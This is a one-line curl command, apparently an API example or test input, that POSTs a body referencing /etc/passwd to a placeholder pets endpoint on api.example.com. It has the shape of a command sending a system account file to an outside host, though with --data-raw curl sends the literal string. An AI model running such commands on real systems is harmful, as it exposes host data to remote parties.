curl --request POST \
  --url https://api.example.com/v1/pets \
  --header 'content-type: text/plain' \
  --data-raw @/etc/passwd
